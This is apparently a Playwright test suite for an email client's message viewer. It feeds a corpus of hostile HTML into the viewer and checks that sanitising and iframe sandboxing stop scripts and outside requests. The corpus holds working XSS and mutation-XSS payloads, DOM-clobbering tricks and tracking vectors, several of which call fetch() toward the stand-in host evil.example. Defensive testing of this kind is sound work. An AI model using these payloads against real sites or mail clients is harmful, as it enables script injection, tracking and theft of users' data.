/**
 * Messages that want to run, to call home or to leave their frame. The engine hands their HTML over as it is; what is
 * measured is what the browser does with it: scripts run (none), requests sent (none before consent).
 */
import { expect } from "@playwright/test";
import { test } from "./fixtures.ts";
import type { Ui } from "./fixtures.ts";

const evil = "http://evil.example";

/** Each would tell evil.example, or set `window.pwned`, if it could. */
const corpus: readonly string[] = [
  `<script>window.top.pwned=1;fetch("${evil}/script")</script>`,
  `<script src="${evil}/a.js"></script>`,
  `<img src=x onerror="fetch('${evil}/onerror');window.top.pwned=1">`,
  `<img src="${evil}/pixel.gif">`,
  `<img srcset="${evil}/1x.png 1x, ${evil}/2x.png 2x">`,
  `<picture><source srcset="${evil}/source.webp"><img src="${evil}/fallback.png"></picture>`,
  `<svg onload="window.top.pwned=1"><image href="${evil}/svg.png"/><script>window.top.pwned=1</script></svg>`,
  `<svg><style>@import "${evil}/svg.css";</style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.top.pwned=1"></style></mglyph></table></mtext></math>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *">`,
  `<base href="${evil}/"><img src="relative.png"><a href="x">x</a>`,
  `<form action="${evil}/form" method="post"><input name="a" autofocus onfocus="window.top.pwned=1"><button>Go</button></form>`,
  `<iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>top.pwned=1</script>"></iframe>`,
  `<object data="${evil}/object"></object><embed src="${evil}/embed"><applet code="${evil}/applet"></applet>`,
  `<video src="${evil}/video" autoplay poster="${evil}/poster"></video><audio src="${evil}/audio" autoplay></audio>`,
  `<link rel="prefetch" href="${evil}/prefetch"><link rel="preload" as="image" href="${evil}/preload">`,
  `<link rel="stylesheet" href="${evil}/link.css"><link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${evil}">`,
  `<link rel="icon" href="${evil}/icon.ico"><link rel="manifest" href="${evil}/manifest.json">`,
  `<style>@import url(${evil}/import.css); @import "${evil}/import2.css"; body{background:url(${evil}/css.png)}</style>`,
  `<style>p::before{content:url(${evil}/content.png)} @font-face{font-family:x;src:url(${evil}/font.woff)} p{font-family:x}</style><p>x</p>`,
  `<style>p{background:u\\72l(${evil}/escaped.png)} p{background:image-set("${evil}/set.png" 1x)}</style><p>x</p>`,
  `<div style="background:url('${evil}/style.png')">x</div><div style="background-image:url(//evil.example/protocol.png)">x</div>`,
  `<div style="list-style:url(${evil}/list.png);cursor:url(${evil}/cursor.cur),auto;border-image:url(${evil}/border.png)">x</div>`,
  `<table background="${evil}/table.png"><tr><td background="${evil}/cell.png">x</td></tr></table><body background="${evil}/body.png">`,
  `<input type="image" src="${evil}/input.png"><button formaction="${evil}/fa">x</button>`,
  `<a href="javascript:window.top.pwned=1" id="js">click</a><a href="data:text/html,<script>1</script>">data</a>`,
  `<a href="${evil}/ping-target" ping="${evil}/ping">ping</a>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>">`,
  `<noscript><p title="</noscript><img src=x onerror=window.top.pwned=1>"></noscript>`,
  `<template><script>window.top.pwned=1</script></template><slot onslotchange="window.top.pwned=1"></slot>`,
  `<div onmouseover="window.top.pwned=1" style="position:fixed;inset:0">cover</div><details open ontoggle="window.top.pwned=1">x</details>`,
  `<form id="f"><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.top.pwned=1 src>">`,
  `<img name="body"><img name="getElementById"><a id="location" href="${evil}/clobber">x</a>`,
  `<img src="  ${evil}/spaces.png"><img src="ht&#10;tp://evil.example/newline.png"><img src="//evil.example/relative.png">`,
  `<body onload="window.top.pwned=1"><marquee onstart="window.top.pwned=1">x</marquee><frameset><frame src="${evil}/frame"></frameset>`,
];

async function show({ page, tell }: Ui, html: string, subject: string): Promise<void> {
  await tell({ type: "deliver", message: { subject, html, text: null } });
  await page.locator("[data-id]", { hasText: subject }).first().click();
  await expect(page.locator("article h1")).toHaveText(subject);
  const body = page.frameLocator("article iframe").frameLocator("iframe").locator("body");
  await expect(body).toBeAttached();
}

/** Of what the corpus asks for. */
const notPictures =
  /\.(?:js|css|woff)|refresh|iframe|object|embed|form|prefetch|ping|manifest|video|audio|applet|\/frame|script|onerror/;

const pwned = (ui: Ui): Promise<boolean> => ui.page.evaluate(() => "pwned" in window);

/** Chromium says in the console that it kept something from happening: that is the second fence, and no fault. */
const fences = /sandboxed|Content Security Policy/;

test.describe("hostile HTML", () => {
  test.beforeEach(async ({ ui }) => {
    await ui.tell({ type: "open", count: 3 });
  });

  // hostile-corpus.spec.ts has the like of each, and more
  test(
    "one message after the other: nothing runs, nothing is asked for, the page stays where it is",
    { tag: "@long" },
    async ({ ui }) => {
      test.setTimeout(180_000);
      const found: string[] = [];
      const look = async (after: string): Promise<void> => {
        const asked = ui.strangers.join(" ");
        if (asked !== "" || (await pwned(ui))) found.push(`${after} (or one before it): ${asked}`);
      };
      for (const [at, html] of corpus.entries()) {
        await show(ui, `<p>before</p>${html}<p>after</p>`, `hostile ${(at + 1).toString().padStart(2, "0")}`);
        await ui.page.waitForTimeout(100);
        await look(html);
        expect(new URL(ui.page.url()).origin).toBe(ui.origin);
      }
      await ui.page.waitForTimeout(400);
      await look("the last");
      expect(found).toEqual([]);
      expect(ui.complaints.filter((text) => !fences.test(text))).toEqual([]);
    },
  );

  test("all of it in one message, and then with images allowed: images alone are fetched", async ({ ui }) => {
    await show(ui, corpus.join("\n"), "everything");
    await ui.page.waitForTimeout(400);
    expect(ui.strangers).toEqual([]);
    await ui.page.getByRole("button", { name: "Show remote images" }).click();
    await expect.poll(() => ui.strangers).toContain(`${evil}/pixel.gif`);
    await ui.page.waitForTimeout(400);
    expect(await pwned(ui)).toBe(false);
    expect(ui.strangers.filter((url) => notPictures.test(url))).toEqual([]);
  });

  test("the fences hold without the cleaner: the frame's policy and its sandbox alone", async ({ ui }) => {
    await show(ui, "<p>plain</p>", "fence");
    await ui.page.evaluate((html) => {
      const outer = document.querySelector<HTMLIFrameElement>("article iframe")?.contentDocument;
      const inner = outer?.querySelector("iframe");
      if (!inner) throw new Error("no frame");
      inner.srcdoc = html;
    }, corpus.join("\n"));
    await ui.page.waitForTimeout(800);
    // Chromium opens a connection for a frame before it asks the policy, and then sends nothing over it
    expect(ui.strangers.filter((what) => what !== "connection")).toEqual([]);
    expect(await pwned(ui)).toBe(false);
  });

  test("where pictures are shown, of the page's own origin, the fences hold without the cleaner too, also for what is clicked", async ({
    ui,
  }) => {
    await show(ui, `<p>plain</p><img src="${evil}/pixel.gif">`, "fence with pictures");
    await ui.page.getByRole("button", { name: "Show remote images" }).click();
    await expect.poll(() => ui.strangers).toEqual([`${evil}/pixel.gif`]);
    const script = "top.pwned=1;opener.pwned=1;opener.top.pwned=1";
    const links = ["_blank", "_top", "_self", "named"].map(
      (target) => `<a class="go" target="${target}" rel="opener" href="javascript:${script}">${target}</a>`,
    );
    await ui.page.evaluate(
      (html) => {
        const outer = document.querySelector<HTMLIFrameElement>("article iframe")?.contentDocument;
        const inner = outer?.querySelector("iframe");
        if (!inner) throw new Error("no frame");
        if (inner.sandbox.contains("allow-scripts")) throw new Error("script may run");
        inner.srcdoc = html;
      },
      links.join("\n") + corpus.join("\n"),
    );
    const frame = ui.page.frameLocator("article iframe").frameLocator("iframe");
    await expect(frame.locator("a.go")).toHaveCount(4);
    for (const link of await frame.locator("a.go").all()) await link.dispatchEvent("click");
    for (const link of await frame.locator("a.go").all()) await link.click({ force: true, noWaitAfter: true, timeout: 2_000 }).catch(() => null); // prettier-ignore
    await ui.page.waitForTimeout(800);
    expect(await pwned(ui)).toBe(false);
    expect(new URL(ui.page.url()).origin).toBe(ui.origin);
    // what is fetched ahead passes where anything may be fetched; without the cleaner it could as well be a picture
    expect(ui.strangers.filter((url) => notPictures.test(url) && !url.endsWith("/prefetch"))).toEqual([]);
  });

  test("the frame is an opaque origin without script", async ({ ui }) => {
    await show(ui, "<p>plain</p>", "opaque");
    const inner = await ui.page.evaluate(() => {
      const outer = document.querySelector<HTMLIFrameElement>("article iframe")?.contentDocument;
      const frame = outer?.querySelector("iframe");
      return { sandbox: frame?.getAttribute("sandbox"), reachable: frame?.contentDocument !== null };
    });
    expect(inner).toEqual({ sandbox: "allow-popups allow-popups-to-escape-sandbox", reachable: false });
  });

  test("links leave for a tab that knows nothing of this one", async ({ ui }) => {
    await show(
      ui,
      `<a href="${evil}/link">out</a> <a href="#end">down</a> <a href="/m/inbox">home</a><p id="end">end</p>`,
      "links",
    );
    const frame = ui.page.frameLocator("article iframe").frameLocator("iframe");
    const link = frame.getByText("out");
    await expect(link).toHaveAttribute("target", "_blank");
    await expect(link).toHaveAttribute("rel", /noopener noreferrer/);
    await expect(frame.getByText("home")).not.toHaveAttribute("href");
    const [popup] = await Promise.all([ui.page.waitForEvent("popup"), link.click()]);
    await expect.poll(() => ui.strangers).toContain(`${evil}/link`);
    await popup.close();
  });

  test("the trap catches what does leave", async ({ ui }) => {
    await ui.page.evaluate(() => open("http://evil.example/leaves", "_blank", "noopener"));
    await expect.poll(() => ui.strangers).toContain(`${evil}/leaves`);
  });

  test("pictures that travel inside are shown", async ({ ui }) => {
    const attachment = {
      part: "cid",
      name: "dot.png",
      type: "image/png",
      size: 70,
      contentId: "<dot@example>",
      inline: true,
    };
    await ui.tell({
      type: "deliver",
      message: {
        subject: "inline",
        text: null,
        html: `<p>dot</p><img src="cid:dot@example" id="dot">`,
        attachments: [attachment],
      },
    });
    await ui.page.locator("[data-id]", { hasText: "inline" }).first().click();
    const image = ui.page.frameLocator("article iframe").frameLocator("iframe").locator("img");
    await expect(image).toHaveAttribute("src", /^data:image\/png;base64,/);
    await expect(ui.page.getByText("Remote images are not shown")).toHaveCount(0);
    await expect(ui.page.getByRole("button", { name: /Save dot/ })).toHaveCount(0);
  });
});

test("what a newsletter looks like is left alone", async ({ ui }) => {
  await ui.tell({ type: "open", count: 1 });
  const html = `<style>h1{color:rgb(1, 2, 3)}</style><body bgcolor="#eeeeee"><table width="300" align="center" cellpadding="4" border="0">
    <tr><td colspan="2" valign="top"><h1 style="font-size:31px">Title</h1><font color="red" size="5">red</font></td></tr></table></body>`;
  await show(ui, html, "newsletter");
  const frame = ui.page.frameLocator("article iframe").frameLocator("iframe");
  await expect(frame.locator("table")).toHaveAttribute("width", "300");
  await expect(frame.locator("table")).toHaveAttribute("align", "center");
  await expect(frame.locator("h1")).toHaveCSS("color", "rgb(1, 2, 3)");
  await expect(frame.locator("h1")).toHaveCSS("font-size", "31px");
  await expect(frame.locator("font")).toHaveCSS("color", "rgb(255, 0, 0)");
  await expect(frame.locator("body")).toHaveCSS("background-color", "rgb(238, 238, 238)");
});
